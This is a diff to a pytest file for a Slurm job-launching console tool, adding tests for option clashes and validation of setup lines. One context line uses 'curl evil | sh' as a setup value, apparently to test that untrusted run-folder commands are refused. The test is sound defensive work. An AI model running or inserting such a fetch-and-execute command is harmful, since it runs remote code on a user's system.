@@ -10,7 +10,7 @@ from tests.command_line import vlmft
 from vlmft_console.commands.completion import place_names
 from vlmft_console.places.chosen import chosen_place
 from vlmft_console.places.place import Hosts, Slurm
-from vlmft_console.places.place_words import check_prefix, check_srun
+from vlmft_console.places.place_words import check_prefix, check_setup, check_srun
 from vlmft_console.places.places_file import check_kept, load_places, places_file
 from vlmft_core.errors import VlmftError
 
@@ -80,9 +80,16 @@ def test_a_run_folder_has_nothing_run_that_no_place_of_ones_own_says(kept: Slurm
     check_kept(replace(juno, setup=("curl evil | sh",)), "run.json", trust=True)
 
 
+def test_options_on_the_command_line_that_do_not_go_with_those_of_the_file_are_refused() -> None:
+    write("juno:\n  slurm: {nodes: 2, signal: B:TERM@600}\n")
+    with pytest.raises(VlmftError, match=r"^--on juno: signal=B:TERM@600: the time limit is 300 s"):
+        chosen_place("juno", ["time=5"])
+
+
 def test_words_that_srun_and_a_container_take_are_passed_on() -> None:
     srun = ("--cpu-bind=cores", "--mpi=pmix", "-w", "n1,n2", "--export=ALL,A=$", "--comment=a b")
     check_srun(srun, "juno.srun")
+    check_setup(("module load \\", "cuda", "echo \\\\"), "juno.setup")
     check_prefix(("apptainer", "exec", "--env=A=a b"), "juno.prefix")
 
 
@@ -110,6 +117,11 @@ def test_without_a_word_a_run_is_started_here() -> None:
         (
             "juno:\n  slurm: {nodes: 2}\n  setup: ['#SBATCH --time=1']\n",
             ":3: juno.setup: '#SBATCH --time=1' is no line",
+        ),
+        ("juno:\n  slurm: {nodes: 2}\n  setup: ['module load \\']\n", "goes on, and no line follows"),
+        (
+            "juno:\n  slurm: {nodes: 2, exclusive: yes}\n",
+            ":2: juno.slurm: exclusive=yes: it is said, or not (exclusive, o",
         ),
         ("juno:\n  slurm: {nodes: 2}\n  setup: [x, ' #PBS -V']\n", ":3: juno.setup: ' #PBS -V' is no line of a shell"),
         ("juno:\n  slurm: {nodes: 2}\n  srun: [3]\n", ":3: juno.srun: must be a list of texts"),
